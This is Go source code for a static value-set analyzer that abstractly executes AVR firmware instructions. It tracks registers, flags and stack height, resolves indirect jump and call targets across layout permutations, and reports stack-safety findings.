		case avr.OpSUBI:
			// Fused SUBI+SBCI on an SP-tagged pair: the pair moves by
			// the exact signed 16-bit immediate, so the tag survives
			// with an adjusted delta (frame allocate/release idiom).
			next := avr.DecodeAt(a.ctx.Img, pc+1)
			tag := st.Tags[in.D/2]
			fused := tag.Ok && in.D%2 == 0 && next.Op == avr.OpSBCI && next.D == in.D+1 &&
				pc+1 < end
			a.ctx.Step(st, in)
			if fused {
				a.ctx.Step(st, next)
				imm := int32(int16(uint16(next.K)<<8 | uint16(in.K)))
				tag.Delta = tag.Delta.Add(imm)
				st.Tags[in.D/2] = tag
				pc += uint32(in.Words) + uint32(next.Words)
				continue
			}
		default:
			if n := a.tryWordPair(st, in, pc, end); n > 0 {
				pc += n
				continue
			}
			a.ctx.Step(st, in)
		}
		pc += uint32(in.Words)
	}
	a.ctx.emit = nil
}

// tryWordPair recognizes the two-instruction adjacent-load idioms that
// prove a register pair holds one little-endian word of a table:
//
//	ld  rd, P+  ; ld  rd+1, P      (or a second post-increment)
//	ldd rd, P+q ; ldd rd+1, P+q+1
//	lpm rd, Z+  ; lpm rd+1, Z(+)
//
// The second load's address is the first's plus one by construction
// (the post-increment or displacement is on the same base pointer), so
// the matched lo/hi correlation holds on every execution — which the
// independent per-half sets cannot express. Both instructions are
// stepped normally and the matched-word provenance is recorded on top;
// returns the words consumed, or 0 when the pattern does not apply.
func (a *funcAnalyzer) tryWordPair(st *State, in avr.Instr, pc, end uint32) uint32 {
	d := in.D
	if d%2 != 0 || pc+uint32(in.Words) >= end {
		return 0
	}
	next := avr.DecodeAt(a.ctx.Img, pc+uint32(in.Words))
	if next.D != d+1 || pc+uint32(in.Words)+uint32(next.Words) > end {
		return 0
	}
	var offs []uint32
	switch in.Op {
	case avr.OpLDXInc, avr.OpLDYInc, avr.OpLDZInc:
		var ptr int
		var second bool
		switch in.Op {
		case avr.OpLDXInc:
			ptr = avr.RegXL
			second = next.Op == avr.OpLDX || next.Op == avr.OpLDXInc
		case avr.OpLDYInc:
			ptr = avr.RegYL
			second = next.Op == avr.OpLDYInc || (next.Op == avr.OpLDDY && next.Q == 0)
		default:
			ptr = avr.RegZL
			second = next.Op == avr.OpLDZInc || (next.Op == avr.OpLDDZ && next.Q == 0)
		}
		if !second || d == ptr {
			return 0
		}
		offs = a.ctx.wordOffs(st.pairAddrs(ptr))
	case avr.OpLDDY, avr.OpLDDZ:
		ptr := avr.RegYL
		if in.Op == avr.OpLDDZ {
			ptr = avr.RegZL
		}
		if next.Op != in.Op || next.Q != in.Q+1 || d == ptr {
			return 0
		}
		offs = a.ctx.wordOffs(offsetAddrs(st.pairAddrs(ptr), uint16(in.Q)))
	case avr.OpLPMZInc:
		if (next.Op != avr.OpLPMZ && next.Op != avr.OpLPMZInc) || d == avr.RegZL {
			return 0
		}
		offs = a.ctx.flashWordOffs(st.pairAddrs(avr.RegZL))
	default:
		return 0
	}
	a.ctx.Step(st, in)
	a.ctx.Step(st, next)
	if offs != nil && len(offs) <= siteHalfCap {
		st.Words[d/2] = offs
	}
	return uint32(in.Words) + uint32(next.Words)
}

// checkRet verifies the stack height at a return: RET must see exactly
// the entry height (the return address it pops is the caller's).
func (a *funcAnalyzer) checkRet(st *State, addr uint32, emit func(off uint32, kind, detail string)) {
	switch {
	case st.H.IsZero():
	case st.H.Top:
		emit(addr, KindStackUnproven, "stack height unknown at return (SP re-pointed or loop widened)")
	default:
		emit(addr, KindRetImbalance,
			fmt.Sprintf("return with %s bytes left on the frame; RET will pop the wrong return address", heightStr(st.H)))
	}
}

func heightStr(h Height) string {
	if h.Singleton() {
		return fmt.Sprintf("%d", h.Lo)
	}
	return fmt.Sprintf("[%d,%d]", h.Lo, h.Hi)
}

// resolveSite captures what the abstract state proves about an
// indirect transfer's target pointer.
func (a *funcAnalyzer) resolveSite(st *State, in avr.Instr, addr uint32) Site {
	s := Site{
		FuncIdx: a.fi,
		Off:     addr - a.f.Start,
		Op:      in.Op,
		Call:    in.Op == avr.OpICALL || in.Op == avr.OpEICALL,
	}
	if in.Op == avr.OpEICALL || in.Op == avr.OpEIJMP {
		// Extended transfers prepend EIND bit 0; only a proven-zero
		// EIND reduces them to the 16-bit case.
		eind := st.EIND
		if eind.IsTop() || eind.Size() != 1 || !eind.Has(0) {
			return s
		}
	}
	if w := st.Words[avr.RegZL/2]; w != nil && len(w) <= siteHalfCap {
		s.Resolved = true
		s.Words = w
		return s
	}
	lo, okL := halfSource(st.Regs[avr.RegZL])
	hi, okH := halfSource(st.Regs[avr.RegZL+1])
	if !okL || !okH || halfSize(lo)*halfSize(hi) > siteProductCap {
		return s
	}
	s.Resolved = true
	s.Lo, s.Hi = lo, hi
	return s
}

func halfSource(v Val) (HalfSource, bool) {
	if v.Tab != nil && len(v.Tab) <= siteHalfCap {
		return HalfSource{Offs: v.Tab}, true
	}
	if !v.Set.IsTop() && v.Set.Size() <= siteHalfCap && !v.Set.IsEmpty() {
		return HalfSource{Set: v.Set.Values()}, true
	}
	return HalfSource{}, false
}

func halfSize(h HalfSource) int {
	if h.Offs != nil {
		return len(h.Offs)
	}
	return len(h.Set)
}
