package vsa

import "bytes"

// Targets concretizes a resolved site against one verified image: the
// sorted byte addresses its indirect transfer can reach. The cross
// product of the pointer halves over-approximates the matched pairs a
// real execution loads, and table-provenance halves read the image
// being verified, so the same descriptor yields each permutation's own
// exact target set. Returns nil for unresolved sites.
func (s *Site) Targets(img []byte) []uint32 {
	if !s.Resolved {
		return nil
	}
	if s.Words != nil {
		out := make([]uint32, 0, len(s.Words))
		for _, off := range s.Words {
			var w uint32
			if int(off)+1 < len(img) {
				w = uint32(img[off]) | uint32(img[off+1])<<8
			}
			out = append(out, w*2)
		}
		sortU32(out)
		return dedupU32(out)
	}
	lo := halfBytes(s.Lo, img)
	hi := halfBytes(s.Hi, img)
	out := make([]uint32, 0, len(lo)*len(hi))
	for _, h := range hi {
		for _, l := range lo {
			w := uint32(h)<<8 | uint32(l)
			out = append(out, w*2)
		}
	}
	sortU32(out)
	return dedupU32(out)
}

func halfBytes(h HalfSource, img []byte) []byte {
	if h.Offs == nil {
		return dedupBytes(h.Set)
	}
	out := make([]byte, 0, len(h.Offs))
	for _, off := range h.Offs {
		var b byte
		if int(off) < len(img) {
			b = img[off]
		}
		out = append(out, b)
	}
	return dedupBytes(out)
}

func dedupBytes(bs []byte) []byte {
	var seen [256]bool
	out := make([]byte, 0, len(bs))
	for _, b := range bs {
		if !seen[b] {
			seen[b] = true
			out = append(out, b)
		}
	}
	// Keep deterministic ascending order regardless of input order.
	sortBytes(out)
	return out
}

func sortBytes(bs []byte) {
	for i := 1; i < len(bs); i++ {
		for j := i; j > 0 && bs[j] < bs[j-1]; j-- {
			bs[j], bs[j-1] = bs[j-1], bs[j]
		}
	}
}

// ReadsEqual reports whether two images agree byte-for-byte on every
// flash range the analysis concretized — the condition (together with
// the lockstep structural diff) under which a base analysis translates
// exactly to another permutation's image.
func (r *Result) ReadsEqual(a, b []byte) bool {
	for _, rg := range r.Reads {
		lo, hi := int(rg.Off), int(rg.Off+rg.Len)
		if hi > len(a) || hi > len(b) {
			return false
		}
		if !bytes.Equal(a[lo:hi], b[lo:hi]) {
			return false
		}
	}
	return true
}
