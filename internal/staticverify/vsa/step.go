package vsa

import "mavr/internal/avr"

// Ctx is the read-only context abstract execution runs against: the
// flash image, the validated pointer tables, and which flash bytes the
// pointer patcher rewrites per permutation (their values must never be
// baked into the analysis — they stay symbolic table provenance).
type Ctx struct {
	Img []byte
	// RegionStart/RegionEnd delimit the shuffleable code region whose
	// bytes differ between permutations; reads from it are top.
	RegionStart, RegionEnd uint32
	Tables                 []Table
	// Patched marks flash byte offsets rewritten per permutation.
	Patched map[uint32]bool
	// reads records flash offsets whose concrete bytes influenced the
	// analysis (nil: don't record). The cached base path byte-compares
	// these ranges before reusing a base analysis for another image.
	reads map[uint32]bool
	// emit receives structured findings during the reporting pass
	// (nil during fixpoint iteration and fuzzing).
	emit func(kind, detail string)
}

// Step applies the abstract transfer function of one instruction to st
// against a bare context (no tables, nothing patched): the entry point
// the lockstep fuzzer drives. Control-transfer instructions only
// update non-control state (call-clobbered registers, stack height);
// the program counter is the analyzer's business.
func Step(st *State, in avr.Instr, img []byte) {
	c := Ctx{Img: img}
	c.Step(st, in)
}

// Step applies the abstract transfer function of one instruction.
func (c *Ctx) Step(st *State, in avr.Instr) {
	switch in.Op {
	case avr.OpNOP, avr.OpWDR, avr.OpSLEEP, avr.OpBREAK, avr.OpInvalid, avr.OpSPM:
		// SPM functions are excluded from analysis wholesale; a stray
		// SPM in an analyzed stream conservatively changes nothing the
		// domain tracks (flash reads already went through flashByte).

	case avr.OpMOVW:
		st.Regs[in.D] = st.Regs[in.R]
		st.Regs[in.D+1] = st.Regs[in.R+1]
		st.Roles[in.D] = st.Roles[in.R]
		st.Roles[in.D+1] = st.Roles[in.R+1]
		st.Tags[in.D/2] = st.Tags[in.R/2]
		st.Words[in.D/2] = st.Words[in.R/2]

	case avr.OpMOV:
		st.setReg(in.D, st.Regs[in.R])
	case avr.OpLDI:
		st.setReg(in.D, Val{Set: Const(byte(in.K))})

	case avr.OpADD, avr.OpADC:
		cin := Flag(FlagClear)
		if in.Op == avr.OpADC {
			cin = st.Flags[avr.FlagC]
		}
		res, cf := absAdd(st.Regs[in.D].Set, st.Regs[in.R].Set, cin, in.D == in.R)
		st.setReg(in.D, Val{Set: res})
		st.arithFlags(res, cf)

	case avr.OpSUB, avr.OpSBC:
		cin := Flag(FlagClear)
		if in.Op == avr.OpSBC {
			cin = st.Flags[avr.FlagC]
		}
		res, cf := absSub(st.Regs[in.D].Set, st.Regs[in.R].Set, cin, in.D == in.R)
		st.setReg(in.D, Val{Set: res})
		if in.Op == avr.OpSBC {
			st.subKeepZFlags(res, cf)
		} else {
			st.arithFlags(res, cf)
		}
	case avr.OpSUBI:
		res, cf := absSub(st.Regs[in.D].Set, Const(byte(in.K)), FlagClear, false)
		st.setReg(in.D, Val{Set: res})
		st.arithFlags(res, cf)
	case avr.OpSBCI:
		res, cf := absSub(st.Regs[in.D].Set, Const(byte(in.K)), st.Flags[avr.FlagC], false)
		st.setReg(in.D, Val{Set: res})
		st.subKeepZFlags(res, cf)

	case avr.OpCP:
		res, cf := absSub(st.Regs[in.D].Set, st.Regs[in.R].Set, FlagClear, in.D == in.R)
		st.arithFlags(res, cf)
	case avr.OpCPC:
		res, cf := absSub(st.Regs[in.D].Set, st.Regs[in.R].Set, st.Flags[avr.FlagC], in.D == in.R)
		st.subKeepZFlags(res, cf)
	case avr.OpCPI:
		res, cf := absSub(st.Regs[in.D].Set, Const(byte(in.K)), FlagClear, false)
		st.arithFlags(res, cf)

	case avr.OpAND, avr.OpOR, avr.OpEOR:
		res := absLogic(st.Regs[in.D].Set, st.Regs[in.R].Set, in.Op, in.D == in.R)
		st.setReg(in.D, Val{Set: res})
		st.logicFlags(res)
	case avr.OpANDI, avr.OpORI:
		res := absLogic(st.Regs[in.D].Set, Const(byte(in.K)), in.Op, false)
		st.setReg(in.D, Val{Set: res})
		st.logicFlags(res)

	case avr.OpCOM:
		res := st.Regs[in.D].Set.Map1(func(v byte) byte { return ^v })
		st.setReg(in.D, Val{Set: res})
		st.logicFlags(res)
		st.Flags[avr.FlagC] = FlagSet
	case avr.OpNEG:
		res, cf := absSub(Const(0), st.Regs[in.D].Set, FlagClear, false)
		st.setReg(in.D, Val{Set: res})
		st.arithFlags(res, cf)
	case avr.OpSWAP:
		st.setReg(in.D, Val{Set: st.Regs[in.D].Set.Map1(func(v byte) byte { return v<<4 | v>>4 })})
	case avr.OpINC, avr.OpDEC:
		overflowAt := byte(0x80)
		d := byte(1)
		if in.Op == avr.OpDEC {
			overflowAt, d = 0x7F, 0xFF
		}
		res := st.Regs[in.D].Set.Map1(func(v byte) byte { return v + d })
		st.setReg(in.D, Val{Set: res})
		var vf Flag
		if res.Has(overflowAt) {
			vf |= FlagSet
		}
		if res.Size() > 1 || !res.Has(overflowAt) {
			vf |= FlagClear
		}
		st.Flags[avr.FlagV] = vf
		st.Flags[avr.FlagZ] = zFromRes(res)
		st.Flags[avr.FlagN] = signFlag(res)
		st.Flags[avr.FlagS] = FlagBoth

	case avr.OpASR, avr.OpLSR, avr.OpROR:
		var res ByteSet
		var cf Flag
		for _, v := range st.Regs[in.D].Set.Values() {
			cf |= FlagOf(v&1 != 0)
			switch in.Op {
			case avr.OpASR:
				res = res.Add(v>>1 | v&0x80)
			case avr.OpLSR:
				res = res.Add(v >> 1)
			case avr.OpROR:
				if st.Flags[avr.FlagC].MayClear() {
					res = res.Add(v >> 1)
				}
				if st.Flags[avr.FlagC].MaySet() {
					res = res.Add(v>>1 | 0x80)
				}
			}
		}
		st.setReg(in.D, Val{Set: res})
		st.Flags[avr.FlagC] = cf
		st.Flags[avr.FlagZ] = zFromRes(res)
		st.Flags[avr.FlagN] = signFlag(res)
		st.Flags[avr.FlagV] = FlagBoth
		st.Flags[avr.FlagS] = FlagBoth

	case avr.OpMUL, avr.OpMULS, avr.OpMULSU, avr.OpFMUL:
		st.setReg(0, topVal())
		st.setReg(1, topVal())
		st.Flags[avr.FlagC] = FlagBoth
		st.Flags[avr.FlagZ] = FlagBoth

	case avr.OpADIW, avr.OpSBIW:
		c.stepADIW(st, in)

	case avr.OpBSET:
		st.Flags[in.D] = FlagSet
	case avr.OpBCLR:
		st.Flags[in.D] = FlagClear
	case avr.OpBLD:
		t := st.Flags[avr.FlagT]
		var res ByteSet
		for _, v := range st.Regs[in.D].Set.Values() {
			if t.MaySet() {
				res = res.Add(v | 1<<in.B)
			}
			if t.MayClear() {
				res = res.Add(v &^ (1 << in.B))
			}
		}
		st.setReg(in.D, Val{Set: res})
	case avr.OpBST:
		st.Flags[avr.FlagT] = bitFlag(st.Regs[in.D].Set, in.B)

	case avr.OpIN:
		c.ioRead(st, in.A, in.D)
	case avr.OpOUT:
		c.ioWrite(st, in.A, st.Regs[in.D], in.D)
	case avr.OpCBI, avr.OpSBI:
		c.ioBit(st, in)

	case avr.OpLDS:
		c.dataLoad(st, in.D, []uint16{uint16(in.Target)})
	case avr.OpSTS:
		c.dataStore(st, []uint16{uint16(in.Target)}, in.D)

	case avr.OpLDX, avr.OpLDXInc, avr.OpLDXDec:
		c.stepIndirect(st, in, avr.RegXL)
	case avr.OpLDYInc, avr.OpLDYDec, avr.OpSTYInc, avr.OpSTYDec:
		c.stepIndirect(st, in, avr.RegYL)
	case avr.OpLDZInc, avr.OpLDZDec, avr.OpSTZInc, avr.OpSTZDec:
		c.stepIndirect(st, in, avr.RegZL)
	case avr.OpSTX, avr.OpSTXInc, avr.OpSTXDec:
		c.stepIndirect(st, in, avr.RegXL)
	case avr.OpLDDY:
		c.dataLoad(st, in.D, offsetAddrs(st.pairAddrs(avr.RegYL), uint16(in.Q)))
	case avr.OpLDDZ:
		c.dataLoad(st, in.D, offsetAddrs(st.pairAddrs(avr.RegZL), uint16(in.Q)))
	case avr.OpSTDY:
		c.dataStore(st, offsetAddrs(st.pairAddrs(avr.RegYL), uint16(in.Q)), in.D)
	case avr.OpSTDZ:
		c.dataStore(st, offsetAddrs(st.pairAddrs(avr.RegZL), uint16(in.Q)), in.D)

	case avr.OpLPM:
		c.flashLoad(st, 0, st.pairAddrs(avr.RegZL))
	case avr.OpLPMZ:
		c.flashLoad(st, in.D, st.pairAddrs(avr.RegZL))
	case avr.OpLPMZInc:
		addrs := st.pairAddrs(avr.RegZL)
		c.flashLoad(st, in.D, addrs)
		c.pairAdd(st, avr.RegZL, 1)
	case avr.OpELPM, avr.OpELPMZ, avr.OpELPMZInc:
		c.stepELPM(st, in)

	case avr.OpPUSH:
		st.H = st.H.Add(1)
	case avr.OpPOP:
		st.H = st.H.Add(-1)
		if !st.H.Top && st.H.Lo < 0 && !st.NegH {
			st.NegH = true
			c.finding("stack-underflow", "pop below the entry stack height: the function consumes its caller's frame")
		}
		st.setReg(in.D, topVal())

	case avr.OpRCALL, avr.OpCALL, avr.OpICALL, avr.OpEICALL:
		st.clobberCall()

	case avr.OpJMP, avr.OpRJMP, avr.OpIJMP, avr.OpEIJMP,
		avr.OpRET, avr.OpRETI, avr.OpBRBS, avr.OpBRBC,
		avr.OpCPSE, avr.OpSBRC, avr.OpSBRS, avr.OpSBIC, avr.OpSBIS:
		// Control flow: handled by the analyzer via block successors;
		// none of these touch registers, flags or the stack height.
	}
}

// clobberCall applies the calling convention at a call: caller-saved
// registers and all flags become unknown, callee-saved registers
// (r2-r17, r28/r29) and — under the balanced-callee modular assumption
// documented in DESIGN.md — the stack height survive.
func (st *State) clobberCall() {
	clobbered := []int{0, 1, 18, 19, 20, 21, 22, 23, 24, 25, 26, 27, 30, 31}
	for _, r := range clobbered {
		st.setReg(r, topVal())
	}
	for i := range st.Flags {
		st.Flags[i] = FlagBoth
	}
	st.EIND = Top()
	st.RAMPZ = Top()
	st.Pend = Pending{}
}

func (c *Ctx) finding(kind, detail string) {
	if c.emit != nil {
		c.emit(kind, detail)
	}
}

// stepADIW handles ADIW/SBIW: exact 16-bit transfer with full flag
// precision when the pair enumerates, and SP-tag delta maintenance.
func (c *Ctx) stepADIW(st *State, in avr.Instr) {
	lo := in.D
	k := uint16(in.K)
	tag := st.Tags[lo/2]
	pairs := st.pairEnum(lo, pairCap)
	var cf, zf, nf, vf, sf Flag
	var out []uint16
	if pairs == nil {
		cf, zf, nf, vf, sf = FlagBoth, FlagBoth, FlagBoth, FlagBoth, FlagBoth
	} else {
		out = make([]uint16, 0, len(pairs))
		for _, v := range pairs {
			var r uint16
			var carry, ovf bool
			if in.Op == avr.OpADIW {
				r = v + k
				carry = r < v
				ovf = v&0x8000 == 0 && r&0x8000 != 0
			} else {
				r = v - k
				carry = r > v
				ovf = v&0x8000 != 0 && r&0x8000 == 0
			}
			neg := r&0x8000 != 0
			out = append(out, r)
			cf |= FlagOf(carry)
			zf |= FlagOf(r == 0)
			nf |= FlagOf(neg)
			vf |= FlagOf(ovf)
			sf |= FlagOf(neg != ovf)
		}
		sortU16(out)
		out = dedupU16(out)
	}
	st.setPair(lo, out)
	st.Flags[avr.FlagC] = cf
	st.Flags[avr.FlagZ] = zf
	st.Flags[avr.FlagN] = nf
	st.Flags[avr.FlagV] = vf
	st.Flags[avr.FlagS] = sf
	if tag.Ok {
		if in.Op == avr.OpADIW {
			tag.Delta = tag.Delta.Add(-int32(k))
		} else {
			tag.Delta = tag.Delta.Add(int32(k))
		}
		st.Tags[lo/2] = tag
	}
}

// stepIndirect handles the LD/ST X/Y/Z variants with pre-decrement and
// post-increment pointer updates, preserving SP tags across the ±1.
func (c *Ctx) stepIndirect(st *State, in avr.Instr, lo int) {
	switch in.Op {
	case avr.OpLDXDec, avr.OpLDYDec, avr.OpLDZDec, avr.OpSTXDec, avr.OpSTYDec, avr.OpSTZDec:
		c.pairAdd(st, lo, -1)
	}
	addrs := st.pairAddrs(lo)
	switch in.Op {
	case avr.OpLDX, avr.OpLDXInc, avr.OpLDXDec, avr.OpLDYInc, avr.OpLDYDec, avr.OpLDZInc, avr.OpLDZDec:
		c.dataLoad(st, in.D, addrs)
	default:
		c.dataStore(st, addrs, in.D)
	}
	switch in.Op {
	case avr.OpLDXInc, avr.OpLDYInc, avr.OpLDZInc, avr.OpSTXInc, avr.OpSTYInc, avr.OpSTZInc:
		c.pairAdd(st, lo, 1)
	}
}

// pairAdd shifts a pointer pair by ±n, preserving an SP tag by
// adjusting its delta.
func (c *Ctx) pairAdd(st *State, lo int, n int32) {
	tag := st.Tags[lo/2]
	pairs := st.pairEnum(lo, pairCap)
	if pairs != nil {
		for i := range pairs {
			pairs[i] += uint16(n)
		}
		sortU16(pairs)
		pairs = dedupU16(pairs)
	}
	st.setPair(lo, pairs)
	if tag.Ok {
		tag.Delta = tag.Delta.Add(-n)
		st.Tags[lo/2] = tag
	}
}

func (c *Ctx) stepELPM(st *State, in avr.Instr) {
	d := 0
	if in.Op != avr.OpELPM {
		d = in.D
	}
	var addrs32 []uint32
	z := st.pairAddrs(avr.RegZL)
	if z != nil && !st.RAMPZ.IsTop() && st.RAMPZ.Size()*len(z) <= addrCap {
		for _, hi := range st.RAMPZ.Values() {
			for _, a := range z {
				addrs32 = append(addrs32, uint32(hi)<<16|uint32(a))
			}
		}
	}
	if addrs32 == nil {
		st.setReg(d, topVal())
	} else {
		set := ByteSet{}
		offs := make([]uint32, 0, len(addrs32))
		for _, a := range addrs32 {
			set = set.Union(c.flashByte(a))
			offs = append(offs, a)
		}
		sortU32(offs)
		offs = dedupU32(offs)
		v := Val{Set: set}
		if len(offs) <= tabCap {
			v.Tab = offs
		}
		st.setReg(d, v)
	}
	if in.Op == avr.OpELPMZInc {
		// z+1 writes back both the Z pair and RAMPZ; modelling the
		// 17-bit carry precisely is not worth it.
		c.pairAdd(st, avr.RegZL, 1)
		st.RAMPZ = Top()
	}
}

// ioRead handles IN and any load that resolved to a single I/O
// address.
func (c *Ctx) ioRead(st *State, a int, d int) {
	switch a {
	case avr.IOAddrSPL, avr.IOAddrSPH:
		st.setReg(d, topVal())
		if st.H.Singleton() {
			kind := roleSPL
			if a == avr.IOAddrSPH {
				kind = roleSPH
			}
			st.Roles[d] = Role{Kind: kind, H: st.H}
			st.tryTag(d &^ 1)
		}
	case avr.IOAddrSREG:
		st.setReg(d, Val{Set: sregSet(st)})
	case avr.IOAddrEIND:
		st.setReg(d, Val{Set: st.EIND})
	case avr.IOAddrRAMPZ:
		st.setReg(d, Val{Set: st.RAMPZ})
	default:
		st.setReg(d, topVal())
	}
}

// tryTag establishes an SP tag on pair lo when both halves hold SP
// bytes read at the same exact height: the pair then equals
// SPentry - height.
func (st *State) tryTag(lo int) {
	rl, rh := st.Roles[lo], st.Roles[lo+1]
	if rl.Kind == roleSPL && rh.Kind == roleSPH &&
		rl.H.Singleton() && rh.H.Singleton() && rl.H.Equal(rh.H) {
		st.Tags[lo/2] = Tag{Ok: true, Delta: rl.H}
	}
}

// ioWrite handles OUT and stores that resolved to a single I/O
// address.
func (c *Ctx) ioWrite(st *State, a int, v Val, srcReg int) {
	switch a {
	case avr.IOAddrSPL, avr.IOAddrSPH:
		c.spWrite(st, a == avr.IOAddrSPH, v, srcReg)
	case avr.IOAddrSREG:
		for i := 0; i < 8; i++ {
			st.Flags[i] = bitFlag(v.Set, i)
		}
	case avr.IOAddrEIND:
		st.EIND = v.Set
	case avr.IOAddrRAMPZ:
		st.RAMPZ = v.Set
	}
}

// spWrite tracks the two-instruction stack-pointer write idiom. Any
// half-write makes the height unknown; completing the pattern from a
// tagged pair re-establishes the exact height (the new SP is
// SPentry - delta, so the new height is delta). A completed write from
// a constant pair re-points SP absolutely (startup init): height stays
// unknown but is not an escape. Anything else is an SP escape finding.
func (c *Ctx) spWrite(st *State, isHigh bool, v Val, srcReg int) {
	half := pendWroteSPL
	wantRole := srcReg%2 == 0 // SPL half must come from the even (low) register
	if isHigh {
		half = pendWroteSPH
		wantRole = srcReg%2 == 1
	}
	pair := int8(-1)
	delta := HeightTop()
	isConst := v.Set.Size() == 1
	tagged := false
	if wantRole && srcReg >= 0 {
		if tag := st.Tags[srcReg/2]; tag.Ok {
			tagged = true
			pair = int8(srcReg / 2)
			delta = tag.Delta
		}
	}
	if !tagged && !isConst {
		c.finding("sp-escape", "stack pointer written from a value not derived from SP or a constant")
	}

	prev := st.Pend
	st.H = HeightTop()
	if prev.Half != pendNone && prev.Half != half {
		// Second half: commit if both halves agree on the same still
		// valid tag snapshot, or both are constants (re-init).
		st.Pend = Pending{}
		if tagged && !prev.IsConst && prev.Pair == pair && prev.Delta.Equal(delta) {
			st.H = delta
		}
		return
	}
	st.Pend = Pending{Half: half, Pair: pair, Delta: delta, IsConst: isConst && !tagged}
}

// ioBit handles CBI/SBI on the tracked extended-pointer registers; a
// bit write to the stack pointer is an escape.
func (c *Ctx) ioBit(st *State, in avr.Instr) {
	f := func(v byte) byte { return v &^ (1 << in.B) }
	if in.Op == avr.OpSBI {
		f = func(v byte) byte { return v | 1<<in.B }
	}
	switch in.A {
	case avr.IOAddrEIND:
		st.EIND = st.EIND.Map1(f)
	case avr.IOAddrRAMPZ:
		st.RAMPZ = st.RAMPZ.Map1(f)
	case avr.IOAddrSPL, avr.IOAddrSPH:
		st.H = HeightTop()
		st.Pend = Pending{}
		c.finding("sp-escape", "stack pointer modified with an I/O bit instruction")
	}
}

// dataLoad abstracts a data-space load over the possible addresses.
// Addresses fully inside one validated pointer table give the value
// table provenance; the stack-pointer, SREG and extended-pointer I/O
// registers are modelled; everything else (SRAM, devices) is unknown.
func (c *Ctx) dataLoad(st *State, d int, addrs []uint16) {
	if len(addrs) == 1 {
		if a := int(addrs[0]) - avr.IOBase; a >= 0 && a < 64 {
			c.ioRead(st, a, d)
			return
		}
	}
	if v, ok := c.tableVal(addrs); ok {
		st.setReg(d, v)
		return
	}
	st.setReg(d, topVal())
}

// tableVal maps a bounded data-address set fully contained in one
// validated pointer table to flash provenance.
func (c *Ctx) tableVal(addrs []uint16) (Val, bool) {
	if len(addrs) == 0 || len(addrs) > tabCap {
		return Val{}, false
	}
	for _, t := range c.Tables {
		lo, hi := t.DataAddr, t.DataAddr+t.Words*2
		all := true
		for _, a := range addrs {
			if uint32(a) < lo || uint32(a) >= hi {
				all = false
				break
			}
		}
		if !all {
			continue
		}
		offs := make([]uint32, len(addrs))
		set := ByteSet{}
		for i, a := range addrs {
			offs[i] = t.FlashOff + (uint32(a) - t.DataAddr)
			set = set.Union(c.flashByte(offs[i]))
		}
		return Val{Set: set, Tab: offs}, true
	}
	return Val{}, false
}

// dataStore abstracts a data-space store: stores never change
// registers, but a store that provably targets the SP/SREG/extended
// pointer I/O registers is modelled (and an SP store is an escape
// unless it follows the tracked idiom). Unbounded store addresses are
// assumed to stay in SRAM — the same assumption the hardware enforces
// for the stack itself (pushes below SRAMBase fault).
func (c *Ctx) dataStore(st *State, addrs []uint16, srcReg int) {
	if len(addrs) == 1 {
		if a := int(addrs[0]) - avr.IOBase; a >= 0 && a < 64 {
			c.ioWrite(st, a, st.Regs[srcReg], srcReg)
			return
		}
	}
	if addrs == nil {
		return
	}
	for _, a := range addrs {
		switch a {
		case avr.AddrSPL, avr.AddrSPH:
			st.H = HeightTop()
			st.Pend = Pending{}
			c.finding("sp-escape", "store may target the stack pointer")
		case avr.AddrSREG:
			for i := range st.Flags {
				st.Flags[i] = FlagBoth
			}
		case uint16(avr.IOBase + avr.IOAddrEIND):
			st.EIND = Top()
		case uint16(avr.IOBase + avr.IOAddrRAMPZ):
			st.RAMPZ = Top()
		}
	}
}

// wordOffs maps a bounded data-address set to per-entry flash word
// offsets when every address and its successor lie inside one
// validated table: the word at data address a is the word at flash
// offset FlashOff + (a - DataAddr) of the image under verification.
func (c *Ctx) wordOffs(addrs []uint16) []uint32 {
	if len(addrs) == 0 || len(addrs) > tabCap {
		return nil
	}
	for _, t := range c.Tables {
		lo, hi := t.DataAddr, t.DataAddr+t.Words*2
		all := true
		for _, a := range addrs {
			if uint32(a) < lo || uint32(a)+1 >= hi {
				all = false
				break
			}
		}
		if !all {
			continue
		}
		offs := make([]uint32, len(addrs))
		for i, a := range addrs {
			offs[i] = t.FlashOff + (uint32(a) - t.DataAddr)
		}
		sortU32(offs)
		return dedupU32(offs)
	}
	return nil
}

// flashWordOffs validates a bounded flash-address set as matched-word
// offsets for an adjacent LPM pair. Offsets overlapping the shuffleable
// region are rejected: their bytes are layout-dependent, so a word
// descriptor over them would not translate across permutations.
func (c *Ctx) flashWordOffs(addrs []uint16) []uint32 {
	if len(addrs) == 0 || len(addrs) > tabCap {
		return nil
	}
	offs := make([]uint32, 0, len(addrs))
	for _, a := range addrs {
		o := uint32(a)
		if int(o)+1 >= len(c.Img) {
			return nil
		}
		if o < c.RegionEnd && o+1 >= c.RegionStart {
			return nil
		}
		offs = append(offs, o)
	}
	sortU32(offs)
	return dedupU32(offs)
}

// flashLoad abstracts LPM: a bounded Z set becomes flash provenance.
func (c *Ctx) flashLoad(st *State, d int, addrs []uint16) {
	if addrs == nil {
		st.setReg(d, topVal())
		return
	}
	set := ByteSet{}
	offs := make([]uint32, len(addrs))
	for i, a := range addrs {
		offs[i] = uint32(a)
		set = set.Union(c.flashByte(uint32(a)))
	}
	v := Val{Set: set}
	if len(offs) <= tabCap {
		v.Tab = offs
	}
	st.setReg(d, v)
}

// flashByte abstracts one flash byte read. Bytes the patcher rewrites
// and bytes inside the shuffleable region differ per permutation and
// are top; everything else is the image's byte, recorded so the cached
// base path can prove two images agree on every byte the analysis
// consumed.
func (c *Ctx) flashByte(off uint32) ByteSet {
	if c.Patched != nil && c.Patched[off] {
		return Top()
	}
	if off >= c.RegionStart && off < c.RegionEnd {
		return Top()
	}
	if int(off) >= len(c.Img) {
		return Top()
	}
	if c.reads != nil {
		c.reads[off] = true
	}
	return Const(c.Img[off])
}

func offsetAddrs(addrs []uint16, q uint16) []uint16 {
	if addrs == nil {
		return nil
	}
	out := make([]uint16, len(addrs))
	for i, a := range addrs {
		out[i] = a + q
	}
	sortU16(out)
	return dedupU16(out)
}

func sortU32(xs []uint32) {
	for i := 1; i < len(xs); i++ {
		for j := i; j > 0 && xs[j] < xs[j-1]; j-- {
			xs[j], xs[j-1] = xs[j-1], xs[j]
		}
	}
}

func dedupU32(xs []uint32) []uint32 {
	out := xs[:0]
	for i, x := range xs {
		if i == 0 || x != out[len(out)-1] {
			out = append(out, x)
		}
	}
	return out
}

// --- arithmetic cores ---

func cinVals(f Flag) []byte {
	switch f {
	case FlagClear:
		return []byte{0}
	case FlagSet:
		return []byte{1}
	case FlagBoth:
		return []byte{0, 1}
	}
	return nil
}

